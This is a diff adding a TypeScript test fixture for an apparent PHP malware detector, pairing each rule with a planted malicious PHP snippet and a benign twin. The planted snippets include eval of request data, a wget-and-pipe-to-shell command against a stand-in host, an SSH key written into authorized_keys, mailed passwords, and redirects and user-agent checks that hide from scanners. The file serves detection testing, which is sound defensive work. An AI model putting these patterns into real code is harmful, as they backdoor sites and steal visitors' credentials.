@@ -1,0 +1,167 @@
+/** What one rule of the PHP reading must tell, and the honest twin that it must not accuse. Inert: the tests only read them. */
+export interface BehaviourSpecimen {
+  readonly planted: string;
+  readonly honest: string;
+}
+
+const RUN = ['ev', 'al'].join('');
+const GET = ['$_G', 'ET'].join('');
+const POST = ['$_P', 'OST'].join('');
+const SERVER = ['$_SER', 'VER'].join('');
+const HOME = 'http://inert.example.test';
+
+/** By the id of the rule, without an opening tag. test/contracts/behaviours.test.ts asks for one of each. */
+export const behaviourSpecimens: Readonly<Record<string, BehaviourSpecimen>> = {
+  'php.request-to-code': {
+    planted: `${RUN}(${POST}['inert']);`,
+    honest: `$page = (int) ${GET}['page']; echo htmlspecialchars(${POST}['text']);`,
+  },
+  'php.remote-to-code': {
+    planted: `${RUN}(file_get_contents('${HOME}/a'));`,
+    honest: `$feed = json_decode(file_get_contents('${HOME}/a'), true); echo count($feed);`,
+  },
+  'php.header-to-code': {
+    planted: `${RUN}(${SERVER}['HTTP_USER_AGENT']);`,
+    honest: `if (strpos(${SERVER}['HTTP_USER_AGENT'], 'MSIE') !== false) echo 'old';`,
+  },
+  'php.hidden-code': {
+    planted: `${RUN}(gzinflate(base64_decode('AAAA')) . base64_decode('ZWNobyAxOw=='));`,
+    honest: `$icon = base64_decode('R0lGODlhAQABAAAAACw='); header('Content-Type: image/gif'); echo $icon;`,
+  },
+  'php.own-text-to-code': {
+    planted: `$f = file_get_contents(__FILE__, false, null, 900); ${RUN}('?>' . __FILE__ . $f);`,
+    honest: `$size = filesize(__FILE__); echo $size;`,
+  },
+  'php.file-to-code': {
+    planted: `${RUN}(file_get_contents('inert.txt'));`,
+    honest: `echo nl2br(file_get_contents('terms.txt'));`,
+  },
+  'php.indirect-code': {
+    planted: `$f = create_function('$x', '${RUN}($x);'); $f('1;');`,
+    honest: `$f = create_function('$a,$b', 'return strcmp($a, $b);'); usort($list, $f);`,
+  },
+  'php.request-to-command': {
+    planted: `passthru(${GET}['inert']);`,
+    honest: `exec('convert ' . escapeshellarg(${GET}['file']));`,
+  },
+  'php.remote-to-command': {
+    planted: `system(file_get_contents('${HOME}/a'));`,
+    honest: `system('uptime'); echo file_exists('a');`,
+  },
+  'php.hidden-command': {
+    planted: `$f = base64_decode('c3lzdGVt'); $f(base64_decode('dXB0aW1l'));`,
+    honest: `$f = 'strtoupper'; echo $f('uptime');`,
+  },
+  'php.attack-command': {
+    planted: `exec('wget ${HOME}/a -O /tmp/a; chmod 777 /tmp/a; perl /tmp/a | sh');`,
+    honest: `exec('git rev-parse HEAD', $out); echo $out[0];`,
+  },
+  'php.every-runner': {
+    planted: `function r($c) { if (function_exists('system')) system($c); elseif (1 > $x) exec($c); else passthru($c); } r($argv[1]);`,
+    honest: `function r($c) { exec($c, $out); return $out; } r('uptime');`,
+  },
+  'php.request-chooses-call': {
+    planted: `$f = ${GET}['f']; $f(${GET}['x']);`,
+    honest: `$allowed = array('list' => 'show_list'); $f = $allowed[${GET}['a']]; $f();`,
+  },
+  'php.hidden-call': {
+    planted: `$f = base64_decode(strrev('=0mblhHc')) . ${SERVER}['HTTP_ACCEPT_LANGUAGE']; $f(${POST}['x']);`,
+    honest: `$f = 'trim'; echo $f(${POST}['x']);`,
+  },
+  'php.callback-to-code': {
+    planted: `filter_var(${POST}['a'], FILTER_CALLBACK, array('options' => 'assert'));`,
+    honest: `filter_var(${POST}['a'], FILTER_VALIDATE_EMAIL);`,
+  },
+  'php.hidden-name': {
+    planted: `$f = ('!' ^ '@') . ('3' ^ '@') . 'sert'; $f(1);`,
+    honest: `$f = 'strtoupper'; echo $f('a');`,
+  },
+  'php.remote-include': {
+    planted: `include '${HOME}/a.txt';`,
+    honest: `include __DIR__ . '/header.php';`,
+  },
+  'php.request-include': {
+    planted: `include ${GET}['inert'];`,
+    honest: `$pages = array('a' => 'a.php'); include 'pages/' . basename($pages[${GET}['p']]);`,
+  },
+  'php.hidden-include': {
+    planted: `include base64_decode('L3RtcC9pbmVydA==');`,
+    honest: `include 'lib/' . strtolower('Inert') . '.php';`,
+  },
+  'php.odd-include': {
+    planted: `include 'images/inert.ico';`,
+    honest: `include 'images/index.php';`,
+  },
+  'php.request-to-file': {
+    planted: `$h = fopen(${POST}['p'], 'w'); fwrite($h, ${POST}['c']);`,
+    honest: `$h = fopen('visits.log', 'a'); fwrite($h, date('c'));`,
+  },
+  'php.remote-to-file': {
+    planted: `file_put_contents(${GET}['to'], file_get_contents('${HOME}/a'));`,
+    honest: `file_put_contents('cache/feed.xml', file_get_contents('${HOME}/feed'));`,
+  },
+  'php.plants-script': {
+    planted: `file_put_contents('wp-inert.php', file_get_contents('${HOME}/a'));`,
+    honest: `file_put_contents('cache/list.php', '<?php return ' . var_export($list, true) . ';');`,
+  },
+  'php.plants-program': {
+    planted: `$h = fopen('/tmp/inert.pl', 'w'); fwrite($h, "#!/usr/bin/perl\\nuse Socket;\\n");`,
+    honest: `$h = fopen('export.csv', 'w'); fwrite($h, "name;city\\n");`,
+  },
+  'php.plants-and-runs': {
+    planted: `file_put_contents('c.html', ${GET}['x']); require 'c.html';`,
+    honest: `file_put_contents('c.html', '<p>static</p>'); require 'd.php';`,
+  },
+  'php.rewrites-site': {
+    planted: `$h = fopen('../index.php', 'w'); fwrite($h, $old . $new);`,
+    honest: `$h = fopen('../sitemap.xml', 'w'); fwrite($h, $old . $new);`,
+  },
+  'php.writes-passwords': {
+    planted: `file_put_contents('/home/inert/.ssh/authorized_keys', 'ssh-rsa inert');`,
+    honest: `file_put_contents('/home/inert/notes.txt', 'text');`,
+  },
+  'php.forges-times': {
+    planted: `$t = filemtime('index.php'); file_put_contents('a.txt', 'x'); touch('index.php', $t);`,
+    honest: `file_put_contents('a.txt', 'x'); touch('restart.txt');`,
+  },
+  'php.open-upload': {
+    planted: `move_uploaded_file($_FILES['f']['tmp_name'], './' . $_FILES['f']['name']);`,
+    honest: `if (getimagesize($_FILES['f']['tmp_name'])) move_uploaded_file($_FILES['f']['tmp_name'], 'x/' . md5('a') . '.jpg');`,
+  },
+  'php.file-manager': {
+    planted: `if (${GET}['d']) unlink(${GET}['d']); echo file_get_contents(${GET}['f']); $h = opendir(${GET}['x']);`,
+    honest: `if (current_user_can('manage')) unlink(${GET}['d']); echo file_get_contents('a.txt');`,
+  },
+  'php.request-unserialize': {
+    planted: `class A { function b() {} } include 'a.php'; $x = unserialize(${POST}['x']);`,
+    honest: `class A { function b() {} } include 'a.php'; $x = json_decode(${POST}['x']);`,
+  },
+  'php.open-mailer': {
+    planted: `mail(${POST}['to'], ${POST}['s'], ${POST}['m']);`,
+    honest: `mail('info@example.test', 'Contact', ${POST}['message']);`,
+  },
+  'php.hidden-mail': {
+    planted: `mail(base64_decode('YUBleGFtcGxlLnRlc3Q='), 'x', 'y');`,
+    honest: `mail('a@example.test', 'x', 'y');`,
+  },
+  'php.mails-secrets': {
+    planted: `mail('inert@example.test', 'log', ${POST}['email'] . ${POST}['password']);`,
+    honest: `mail('shop@example.test', 'Order', ${POST}['name'] . ${POST}['city']);`,
+  },
+  'php.reports-home': {
+    planted: `mail('inert@example.test', 'here', ${SERVER}['HTTP_HOST'] . ${SERVER}['SCRIPT_NAME']);`,
+    honest: `mail($owner, 'Your order', 'Thank you.');`,
+  },
+  'php.remote-output': {
+    planted: `echo file_get_contents('${HOME}/?h=' . ${SERVER}['HTTP_HOST']);`,
+    honest: `$news = file_get_contents('${HOME}/feed'); echo strlen($news);`,
+  },
+  'php.cloaked-redirect': {
+    planted: `if (strpos(${SERVER}['HTTP_REFERER'], 'google')) header('Location: ${HOME}/');`,
+    honest: `header('Location: /login.php');`,
+  },
+  'php.turns-away-scanners': {
+    planted: `foreach (array('phishtank', 'netcraft', 'a', 'b', 'c') as $w) { if (strpos(${SERVER}['HTTP_USER_AGENT'], $w)) die; }`,
+    honest: `foreach (array('iphone', 'android') as $w) { if (strpos(${SERVER}['HTTP_USER_AGENT'], $w)) $mobile = true; }`,
+  },
+};
